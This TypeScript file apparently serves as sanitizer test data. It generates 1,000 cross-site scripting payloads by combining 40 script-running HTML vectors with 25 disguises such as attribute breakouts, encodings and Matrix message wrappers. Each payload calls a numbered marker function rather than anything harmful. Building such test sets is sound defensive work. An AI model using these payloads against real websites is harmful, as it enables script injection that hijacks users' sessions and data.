/**
 * Texts that try to run a script wherever they are shown: forty ways of running one, each in
 * twenty-five disguises. Each calls `x` with its own number.
 */

/** Ways of running a script; `!` stands for the call. */
const ATTACKS = [
  "<script>!</script>",
  "<script src=data:,!></script>",
  "<script type=module>!</script>",
  "<img src=x onerror=!>",
  "<img src=x:x onerror='!'>",
  "<image src=x onerror=!>",
  "<svg onload=!>",
  "<svg><script>!</script></svg>",
  "<svg><script href=data:,! />",
  "<svg><animate onbegin=! attributeName=x dur=1s>",
  "<svg><set onbegin=! attributeName=x>",
  "<svg><style onload=!></style></svg>",
  "<svg><a xlink:href=javascript:!><text y=20>x</text></a></svg>",
  "<math><maction href=javascript:!>x</maction></math>",
  "<body onload=!>",
  "<body onpageshow=!>",
  "<iframe onload=!></iframe>",
  "<iframe src=javascript:parent.!></iframe>",
  "<iframe srcdoc='<img src=x onerror=parent.!>'></iframe>",
  "<object data=javascript:!></object>",
  "<embed src=javascript:!>",
  "<object data=x onerror=!></object>",
  "<video src=x onerror=!></video>",
  "<video><source src=x onerror=!></video>",
  "<audio src=x onerror=!></audio>",
  "<details open ontoggle=!>x</details>",
  "<input autofocus onfocus=!>",
  "<select autofocus onfocus=!></select>",
  "<textarea autofocus onfocus=!></textarea>",
  "<button autofocus onfocus=!>x</button>",
  "<p tabindex=0 autofocus onfocus=!>x</p>",
  "<link rel=stylesheet href=x onerror=!>",
  "<style onload=!></style>",
  "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=!>x</p>",
  "<marquee onstart=!>x</marquee>",
  "<form action=javascript:!><input type=submit></form>",
  "<form><button formaction=javascript:!>x</button></form>",
  "<a href=javascript:!>x</a>",
  "<a href='java&#10;script:!'>x</a>",
  "<noscript><p title='</noscript><img src=x onerror=!>'>",
] as const;

const upper = (markup: string): string =>
  markup.replace(/<\/?[a-z]+|\bon[a-z]+(?==)/g, (name) => name.toUpperCase());

/** Forms in which an attack slips past whoever looks for another. */
const DISGUISES: ((markup: string) => string)[] = [
  (markup) => markup,
  upper,
  (markup) => `hello ${markup} there`,
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `-->${markup}`,
  (markup) => `]]>${markup}`,
  (markup) => `</textarea>${markup}`,
  (markup) => `</title></style></script>${markup}`,
  (markup) => markup.replaceAll(" ", "\t"),
  (markup) => markup.replaceAll(" ", "\n"),
  (markup) => markup.replace(/(<[a-z]+) /, "$1/"),
  (markup) => `<b>${markup}</b>`,
  (markup) => `<a href="https://shop.example/">${markup}</a>`,
  (markup) => `<pre><code>${markup}</code></pre>`,
  (markup) => `<mx-reply><b>${markup}</b></mx-reply>${markup}`,
  (markup) => `<span data-mx-maths="${markup}">${markup}</span>`,
  (markup) => `<img alt="${markup}" src=mxc://x/y>${markup}`,
  (markup) => `<table><tr><td>${markup}`,
  (markup) => `<math><mtext><table><mglyph><style><!--</style>${markup}`,
  (markup) => `<svg><desc>${markup}`,
  (markup) => `<<b>${markup}<`,
  (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (markup) => markup.replaceAll("<", "&amp;lt;"),
  (markup) => markup.replaceAll("<", "%3C").replaceAll(">", "%3E"),
];

/** All of them. */
export const PAYLOADS: string[] = DISGUISES.flatMap((disguise, row) =>
  ATTACKS.map((attack, column) => {
    const number = row * ATTACKS.length + column;
    return disguise(attack).replaceAll("!-", "\u0000").replaceAll("!", `x(${number})`).replaceAll("\u0000", "!-");
  }),
);

/** Some of them, of every kind. */
export function some(count: number): string[] {
  // The step shares no divisor with the number of either.
  return Array.from({ length: count }, (_, index) => PAYLOADS[(index * 207) % PAYLOADS.length] ?? "");
}
